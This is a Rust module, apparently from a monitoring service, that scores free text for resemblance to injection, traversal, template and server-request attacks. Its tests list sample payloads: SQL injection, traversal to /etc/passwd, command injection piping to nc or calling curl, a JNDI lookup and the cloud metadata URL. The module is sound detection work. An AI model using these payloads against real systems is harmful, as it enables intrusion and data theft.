//! What a free text looks like to whoever watches for attacks: recorded and scored, never refused, since chat about SQL and
//! shells is normal. Bounded: only the start of a text and of a payload is looked at, in one canonical form.

mod canonical;
mod patterns;

use std::ops::Range;

pub(super) use canonical::BYTES_THAT_MATTER;

use super::strings::{self, Values};

/// A kind of attack that a text resembles.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Signal {
    SqlInjection,
    PathTraversal,
    CommandInjection,
    NosqlInjection,
    PrototypePollution,
    TemplateInjection,
    ServerRequest,
}

impl Signal {
    pub const ALL: [Self; 7] = [
        Self::SqlInjection,
        Self::PathTraversal,
        Self::CommandInjection,
        Self::NosqlInjection,
        Self::PrototypePollution,
        Self::TemplateInjection,
        Self::ServerRequest,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            Self::SqlInjection => "sql_injection",
            Self::PathTraversal => "path_traversal",
            Self::CommandInjection => "command_injection",
            Self::NosqlInjection => "nosql_injection",
            Self::PrototypePollution => "prototype_pollution",
            Self::TemplateInjection => "template_injection",
            Self::ServerRequest => "server_request",
        }
    }
}

/// The signals of one payload.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct SignalSet(u8);

impl SignalSet {
    pub fn is_empty(self) -> bool {
        self.0 == 0
    }

    pub fn contains(self, signal: Signal) -> bool {
        self.0 & Self::bit(signal) != 0
    }

    pub fn insert(&mut self, signal: Signal) {
        self.0 |= Self::bit(signal);
    }

    pub fn iter(self) -> impl Iterator<Item = Signal> {
        Signal::ALL.into_iter().filter(move |signal| self.contains(*signal))
    }

    fn union(self, other: Self) -> Self {
        Self(self.0 | other.0)
    }

    fn bit(signal: Signal) -> u8 {
        1 << (signal as u8)
    }
}

/// How much of one text and of one payload is looked at.
const TEXT_BYTES_MAX: usize = 4 * 1024;
const PAYLOAD_BYTES_MAX: usize = 32 * 1024;
/// What a text costs of that at the least: thousands of tiny ones are no shorter a look.
const TEXT_COST_MIN: usize = 64;

/// The signals of all string values of a JSON text, but for those in `keep` (the event's name).
pub fn signals(json: &str, keep: Option<Range<usize>>) -> SignalSet {
    let mut found = SignalSet::default();
    let mut budget = PAYLOAD_BYTES_MAX;
    for range in Values::of(json, keep) {
        let content = start_of(json.get(range).unwrap_or_default(), budget.min(TEXT_BYTES_MAX));
        if canonical::may_matter(content) {
            found = found.union(text_signals(&strings::decode(content)));
            budget = budget.saturating_sub(content.len().max(TEXT_COST_MIN));
        }
        if budget == 0 {
            break;
        }
    }
    found
}

/// The signals of one text.
pub fn text_signals(text: &str) -> SignalSet {
    let start = start_of(text, TEXT_BYTES_MAX);
    if !canonical::may_matter(start) {
        return SignalSet::default();
    }
    patterns::matches(&canonical::form(start))
}

fn start_of(text: &str, bytes_max: usize) -> &str {
    text.get(..text.floor_char_boundary(bytes_max)).unwrap_or(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn signal(text: &str) -> Vec<Signal> {
        text_signals(text).iter().collect()
    }

    #[test]
    fn p12_attacks_in_free_text_are_recognised() {
        for text in [
            "' OR 1=1 --",
            "x' UNION/**/SELECT password FROM users--",
            "1; DROP TABLE users",
            "admin'--",
            "1 and sleep(5)=0",
            "1 ORDER BY 10--",
            "%27%20or%20%271%27%3D%271",
            "'; exec xp_cmdshell('dir')",
        ] {
            assert_eq!(signal(text), [Signal::SqlInjection], "{text}");
        }
        for text in
            ["../../../../etc/hosts", r"..\..\..\windows\win.ini", "%2e%2e%2f%2e%2e%2f%2e%2e%2fx", "file:///etc/passwd"]
        {
            assert_eq!(signal(text), [Signal::PathTraversal], "{text}");
        }
        for text in
            ["x; cat notes.txt", "a | nc 10.0.0.1 99", "$(whoami)", "`id`", "() { :;}; echo x", "x && curl http://a/b"]
        {
            assert_eq!(signal(text), [Signal::CommandInjection], "{text}");
        }
        assert_eq!(signal("${jndi:ldap://a/b}"), [Signal::TemplateInjection]);
        assert_eq!(signal("user[$ne]=x"), [Signal::NosqlInjection]);
        assert_eq!(signal("x[__proto__][y]=z"), [Signal::PrototypePollution]);
        assert_eq!(signal("http://169.254.169.254/latest/"), [Signal::ServerRequest]);
    }

    #[test]
    fn p12_honest_text_is_silent() {
        for text in [
            "select a seat from the list",
            "it's 5 or 6 o'clock",
            "the union will select a leader",
            "drop the table off at 5; then call me",
            "import x from '../../lib'",
            "npm install && npm test",
            "order by tomorrow and I'll update you",
            "R&D; sales",
            "time.sleep(5)",
            "is it a cat | dog?",
            "AC/DC and/or ABBA",
            "\"yes\" or \"no\"?",
            "1 or 2?",
            "see https://a.b/c?d=e&f=g#h",
        ] {
            assert_eq!(signal(text), [], "{text}");
        }
    }

    #[test]
    fn p12_signals_come_from_values_but_the_name() {
        let json = r#"["' or 1=1 --", {"' or 1=1 --": "hi"}]"#;
        assert!(!signals(json, None).is_empty());
        assert!(signals(json, Some(1..14)).is_empty());
    }
}
